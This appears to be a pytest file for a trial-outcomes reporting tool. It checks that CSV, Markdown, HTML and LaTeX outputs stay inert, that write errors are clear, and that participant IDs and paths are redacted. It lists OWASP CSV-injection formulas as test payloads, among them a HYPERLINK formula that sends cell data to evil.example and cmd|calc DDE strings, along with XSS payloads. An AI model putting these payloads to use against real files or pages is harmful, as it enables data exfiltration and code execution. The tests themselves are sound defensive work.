"""Outputs a user can open safely (issue 9): CSV cells no spreadsheet runs, Markdown without raw
HTML or links, labels drawn literally, clear errors for a bad dpi or a failed write, redaction
that keeps ordinary numbers, and no absolute input path in the report."""

from __future__ import annotations

import csv
import errno
import re
from dataclasses import replace
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from matplotlib.figure import Figure  # noqa: E402

from prt_outcomes.errors import OutputError  # noqa: E402
from prt_outcomes.outputs import write_csv  # noqa: E402
from prt_outcomes.render import figures as F  # noqa: E402
from prt_outcomes.render.report import build_report, redact_failures, render_tables  # noqa: E402
from prt_outcomes.render.tables import to_html, to_latex, to_markdown, write_table  # noqa: E402
from report_fakes import load_example_config, write_fake_results  # noqa: E402

#: Spreadsheet formulas (OWASP "CSV Injection" examples) and Markdown/HTML payloads.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    '+cmd|" /C calc"!A0',
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "&#106;avascript:alert(1)",
    "a|b",
    "a\\|b",
]
PAYLOADS = FORMULAS + MARKUP
#: OWASP: a spreadsheet evaluates a cell that begins with one of these.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _one_outcome(config):
    """The config with its first outcome only: the report draws per outcome, the code path is
    the same, and the tests stay quick."""
    first = config.outcomes[0].name
    return replace(
        config,
        outcomes=config.outcomes[:1],
        thresholds=tuple(t for t in config.thresholds if t.outcomes == (first,)),
    )


@pytest.fixture(scope="module")
def small():
    return _one_outcome(load_example_config())


def _raw_csv_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _raw_csv_cells(path: Path) -> list[str]:
    return [cell for row in _raw_csv_rows(path) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _live_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_START and not _is_number(cell)


# ---------------------------------------------------------------- CSV
@pytest.mark.parametrize("payload", PAYLOADS)
def test_write_csv_neutralises_formulas_in_text_cells_and_header(tmp_path, payload):
    frame = pd.DataFrame(
        {
            "label": [payload, "prt"],
            payload: ["x", payload],
            "estimate": [-1.5, 2.0],
            "as_text": ["-1.5", "+2"],
        }
    )
    path = write_csv(frame, tmp_path / "t.csv")
    rows = _raw_csv_rows(path)
    assert [len(r) for r in rows] == [4, 4, 4]  # a carriage return never ends a row early
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if _live_formula(c)] == []
    if payload[0] in FORMULA_START:
        # header, label and the payload column; a lone CR is written as a line feed
        assert cells.count("'" + re.sub(r"\r(?!\n)", "\n", payload)) == 3
    # Numbers stay numbers, including negative ones and numbers written as text.
    back = pd.read_csv(path)
    assert back["estimate"].tolist() == [-1.5, 2.0]
    assert back["as_text"].tolist() == [-1.5, 2.0]


def test_write_csv_keeps_numbers_and_ordinary_text_byte_for_byte(tmp_path):
    frame = pd.DataFrame(
        {
            "arm": ["prt", "usual_care"],
            "visit": ["post", "1-month"],
            "estimate": [-0.25, 1 / 3],
            "n": [50, 51],
            "display": ["1.20 (-2.00 to 0.40)", "Pain-free"],
        }
    )
    path = write_csv(frame, tmp_path / "t.csv")
    expected = tmp_path / "expected.csv"
    frame.to_csv(expected, index=False, float_format="%.10g", lineterminator="\n")
    assert path.read_bytes() == expected.read_bytes()


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a1.|<>[]( ")), max_size=8))
def test_no_text_cell_starts_a_formula_and_restore_inverts(text):
    from prt_outcomes.files import neutralise_formula, restore_formula

    safe = neutralise_formula(text)
    assert not _live_formula(safe)
    assert neutralise_formula(safe) == safe  # a table read back and written again is unchanged
    if not (text.startswith("'") and len(text) > 1 and text[1] in FORMULA_START):
        assert restore_formula(safe) == text


def test_journal_csv_goes_through_write_csv(tmp_path):
    table = pd.DataFrame({"Arm": ["=HYPERLINK(1)", "@SUM(A1)"], "Difference": ["-1.2 (-2 to 0)", "0.5"]})
    (path,) = write_table(table, tmp_path / "outcome_x", ("csv",))
    assert [c for c in _raw_csv_cells(path) if _live_formula(c)] == []
    assert "'=HYPERLINK(1)" in _raw_csv_cells(path)


# ---------------------------------------------------------------- Markdown, HTML, LaTeX
def _markdown_is_inert(md: str) -> bool:
    """No raw HTML tag or entity, no link or image syntax, no unescaped pipe inside a cell."""
    if re.search(r"<[A-Za-z/!?]", md) or re.search(
        r"&#?\w+;", md.replace("&amp;", "").replace("&lt;", "").replace("&gt;", "").replace("&#92;", "")
    ):
        return False
    if re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", md):
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_html_and_latex_hold_every_payload(payload):
    df = pd.DataFrame({"Arm": [payload], payload: ["1.0"]})
    md = to_markdown(df, caption=payload, notes=payload)
    assert _markdown_is_inert(md), md
    # Every row keeps its two cells: a pipe in the payload never opens a third.
    for line in md.splitlines()[2:5]:
        if line.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 3, line
    page = to_html(df, caption=payload, notes=payload)
    assert not re.search(r"<(img|script|a)\b", page)
    tex = to_latex(df, caption=payload, notes=payload)
    assert "<" not in tex.replace(r"\textless{}", "") and "&#" not in tex.replace(r"\&\#", "")


def test_markdown_keeps_journal_text_readable():
    md = to_markdown(
        pd.DataFrame(
            {"P": ["<.001"], "Threshold": ["\u226530% reduction"], "Diff": ["-1.20 (-2.00 to -0.40)"]}
        )
    )
    assert "&lt;.001" in md and "\u226530% reduction" in md and "\u22121.20" in md


def _hostile_config(base):
    arms = tuple(
        replace(a, label=label)
        for a, label in zip(
            base.arms,
            ['=HYPERLINK("http://evil","x")', "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"],
        )
    )
    visits = tuple(
        replace(v, label=f"@SUM({v.name})" if i == 1 else v.label) for i, v in enumerate(base.visits)
    )
    outcomes = (replace(base.outcomes[0], label="+cmd|' /C calc'!A0 $x$ (\u00a3)"), *base.outcomes[1:])
    return replace(base, arms=arms, visits=visits, outcomes=outcomes)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    config = _hostile_config(_one_outcome(load_example_config()))
    results = write_fake_results(tmp_path_factory.mktemp("hostile"), config)
    # A data value that looks like a formula, in a table the describe stage writes.
    baseline = pd.read_csv(results / "tables/baseline.csv")
    level = baseline["level"].dropna().iloc[0]
    baseline.loc[baseline["level"] == level, "level"] = "-cmd|' /C calc'!A0"
    write_csv(baseline, results / "tables/baseline.csv")
    return config, results


def test_rendered_tables_hold_hostile_labels(hostile):
    config, results = hostile
    written = render_tables(config, results)
    csvs = [p for p in written if p.suffix == ".csv"]
    assert csvs
    for path in csvs:
        assert [c for c in _raw_csv_cells(path) if _live_formula(c)] == [], path.name
    for path in (p for p in written if p.suffix == ".md"):
        assert _markdown_is_inert(path.read_text(encoding="utf-8")), path.name
    for path in (p for p in written if p.suffix == ".html"):
        assert "<img" not in path.read_text(encoding="utf-8"), path.name
    # The label is shown as the user wrote it (escaped), not with the CSV's quote.
    md = (results / "tables" / "outcome_pain_avg.md").read_text(encoding="utf-8")
    assert '=HYPERLINK("http://evil","x")' in md and "'=HYPERLINK" not in md
    md = (results / "tables" / "baseline_table.md").read_text(encoding="utf-8")
    assert "-cmd\\|' /C calc'!A0" in md and "'-cmd" not in md


def test_report_holds_hostile_labels(hostile):
    config, results = hostile
    render_tables(config, results)
    text = build_report(config, results).read_text(encoding="utf-8")
    assert "<img src=x" not in text and 'href="javascript' not in text
    assert "=HYPERLINK(&quot;http://evil&quot;,&quot;x&quot;)" in text


# ---------------------------------------------------------------- figures: labels, dpi
@pytest.mark.parametrize(
    "label", [r"$\frac{a$ x", "a $^$ b", "50% $_$", "$x$ unbalanced", "Cost ($) and ($)"]
)
def test_figure_labels_with_dollars_render_literally(tmp_path, small, label):
    config = replace(
        small,
        arms=(replace(small.arms[0], label=label), *small.arms[1:]),
        outcomes=(replace(small.outcomes[0], label=label),),
    )
    results = write_fake_results(tmp_path, config)
    fig = Figure(figsize=(6.5, 3.4), layout="constrained")
    ax = F.plot_trajectory(
        pd.read_csv(results / "tables/marginal_means.csv"),
        pd.read_csv(results / "tables/observed_summary.csv"),
        outcome="pain_avg",
        config=config,
        ax=fig.subplots(),
    )
    F.save_figure(fig, tmp_path / "t", ("png",), dpi=40)  # old code: mathtext ValueError
    legend = [t.get_text() for t in ax.get_legend().get_texts()]
    assert label in legend
    for text in fig.findobj(matplotlib.text.Text):
        if "$" in text.get_text():
            assert text.get_parse_math() is False, text.get_text()


@pytest.mark.parametrize("dpi", [100_000, 20_000, 0, 0.2, -5, float("nan"), float("inf"), "many"])
def test_impossible_dpi_is_an_output_error(tmp_path, dpi):
    fig = Figure(figsize=(6.5, 3.4))
    fig.subplots().plot([0, 1])
    with pytest.raises(OutputError, match=r"t\.png.*dpi"):
        F.save_figure(fig, tmp_path / "t", ("png",), dpi=dpi)
    assert not (tmp_path / "t.png").exists()


def test_largest_suggested_dpi_works(tmp_path):
    fig = Figure(figsize=(6.5, 3.4))
    fig.subplots().plot([0, 1])
    with pytest.raises(OutputError) as caught:
        F.save_figure(fig, tmp_path / "t", ("png",), dpi=20_000)
    largest = int(re.search(r"to (\d+) or less", str(caught.value)).group(1))
    assert largest >= 1200  # every sensible print dpi passes
    assert F._check_dpi(fig, largest, tmp_path / "t.png") == largest


def test_render_figures_with_a_huge_config_dpi_is_an_output_error(tmp_path, small):
    config = replace(small, dpi=50_000, figure_formats=("png",))
    results = write_fake_results(tmp_path, config)
    with pytest.raises(OutputError, match=r"trajectory_pain_avg\.png: dpi 50000 .*Set dpi in the config"):
        F.render_figures(config, results)


# ---------------------------------------------------------------- full disk, read-only folder
def _enospc(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")


def _eacces(*args, **kwargs):
    raise PermissionError(errno.EACCES, "Permission denied")


@pytest.mark.parametrize("fail, reason", [(_enospc, "disk is full"), (_eacces, "permission denied")])
def test_failed_csv_write_names_the_file(tmp_path, monkeypatch, fail, reason):
    monkeypatch.setattr(pd.DataFrame, "to_csv", fail)
    with pytest.raises(OutputError, match=rf"cannot write .*t\.csv: .*{reason}.*run again"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "t.csv")


def test_failed_table_write_names_the_file(tmp_path, monkeypatch):
    monkeypatch.setattr(Path, "write_text", _enospc)
    with pytest.raises(OutputError, match=r"cannot write .*t\.md: the disk is full"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t", ("md",))


def test_failed_figure_write_names_the_file_and_leaves_no_partial_file(tmp_path, monkeypatch):
    fig = Figure(figsize=(2, 2))
    fig.subplots().plot([0, 1])

    def half_written(self, path, **kwargs):
        Path(path).write_bytes(b"\x89PNG partial")
        _enospc()

    monkeypatch.setattr(Figure, "savefig", half_written)
    with pytest.raises(OutputError, match=r"cannot write .*f\.png: the disk is full"):
        F.save_figure(fig, tmp_path / "f", ("png",), dpi=50)
    assert not (tmp_path / "f.png").exists()


def test_read_only_results_folder_is_an_output_error(tmp_path, monkeypatch):
    def read_only(self, *args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(Path, "mkdir", read_only)
    with pytest.raises(OutputError, match="read-only file system"):
        write_csv(pd.DataFrame({"a": [1]}), tmp_path / "sub" / "t.csv")


def test_failed_report_write_names_the_file(tmp_path, monkeypatch, small):
    results = write_fake_results(tmp_path, small)
    original = Path.write_text

    def full_for_report(self, *args, **kwargs):
        if self.name == "report.html":
            _enospc()
        return original(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", full_for_report)
    with pytest.raises(OutputError, match=r"cannot write .*report\.html: the disk is full"):
        build_report(small, results)


# ---------------------------------------------------------------- redaction (item 8)
NUMERIC_IDS = ["7", "12", "103"]


def test_ordinary_numbers_equal_to_a_numeric_id_survive():
    failures = pd.DataFrame(
        {
            "file": ["a.csv"] * 3,
            "row": [12, 13, 14],
            "column": ["pain_avg", "pain_avg", "age"],
            "rule": ["out_of_range"] * 3,
            "value": ["12", "103", "7"],
            "message": [
                "pain_avg = 12 is outside its range [0, 10]",
                "pain_avg = 103 is outside its range [0, 10]",
                "age = 7 is outside its range [18, 90]",
            ],
        }
    )
    out = redact_failures(failures, known_ids=NUMERIC_IDS)
    assert out["value"].tolist() == ["12", "103", "7"]
    assert out["message"].tolist() == failures["message"].tolist()
    assert out["row"].tolist() == [12, 13, 14]


def test_ids_still_never_appear():
    failures = pd.DataFrame(
        {
            "file": ["a.csv"] * 4,
            "row": [2, 3, 4, 5],
            "column": ["participant_id", "sex", "visit", "participant_id"],
            "rule": ["duplicate_visit", "unknown_level", "unknown_visit", "duplicate_visit"],
            # a stray quote in the sex cell swallowed the next two records (ids 12 and P-33)
            "value": ["103", 'f"\n12,prt,baseline,5\nP-33,uc,baseline,4', "week 9", "P-33"],
            "message": [
                "the participant has the same visit more than once",
                "sex 'f\"\n12,prt,baseline,5\nP-33,uc,baseline,4' is not one of its levels",
                "visit 'week 9' of P-33 is unknown",
                "P-33 twice",
            ],
        }
    )
    out = redact_failures(failures, known_ids=NUMERIC_IDS + ["P-33"])
    text = " ".join(out["value"].tolist() + out["message"].tolist())
    assert out.loc[[0, 3], "value"].tolist() == ["[participant id removed]"] * 2
    assert "P-33" not in text and "103" not in text
    assert not re.search(r"(?<![\w-])12(?![\w-])", text)
    assert "2 more line(s) removed" in out.loc[1, "value"]


@pytest.fixture(scope="module")
def private_report(tmp_path_factory, small):
    """A report of a study with numeric participant ids (1 to 150) and absolute input paths."""
    import json

    results = write_fake_results(tmp_path_factory.mktemp("private"), small)
    data = pd.read_csv(results / "intermediate/analysis_data.csv")
    codes = {pid: str(i + 1) for i, pid in enumerate(dict.fromkeys(data["participant_id"]))}
    data["participant_id"] = data["participant_id"].map(codes)
    write_csv(data, results / "intermediate/analysis_data.csv")
    (results / "intermediate/ingested.parquet").unlink()
    failures = pd.read_csv(results / "validation/failures.csv")
    failures.loc[0, ["value", "message"]] = ["11", "pain_avg = 11 is outside its range [0, 10]"]
    failures.loc[len(failures)] = [
        "outcomes_long.csv",
        500,
        "participant_id",
        "duplicate_visit",
        "42",
        "the participant has the same visit more than once",
    ]
    write_csv(failures, results / "validation/failures.csv")
    manifest = json.loads((results / "manifest.json").read_text(encoding="utf-8"))
    manifest["inputs"] = [
        {"path": "/home/alice/secret-trial/data/outcomes_long.csv", "sha256": "cd" * 32, "bytes": 1},
        {"path": "C:\\Users\\alice\\trial\\baseline.xlsx", "sha256": "ef" * 32, "bytes": 2},
        {"path": "data/example/visits.csv", "sha256": "01" * 32, "bytes": 3},
    ]
    (results / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return build_report(small, results).read_text(encoding="utf-8")


def test_report_keeps_numbers_equal_to_numeric_ids(private_report):
    assert "pain_avg = 11 is outside its range [0, 10]" in private_report  # old: "= [id removed]"
    assert (
        "<td>500</td><td>participant_id</td><td>duplicate_visit</td><td>[participant id removed]</td>"
    ) in private_report


# ---------------------------------------------------------------- provenance paths (item 11)
def test_report_shows_no_absolute_input_path(private_report):
    provenance = private_report[private_report.index('id="provenance"') :]
    assert "alice" not in provenance and "/home" not in provenance
    for shown in ("outcomes_long.csv", "baseline.xlsx", "data/example/visits.csv", "cd" * 32):
        assert shown in provenance
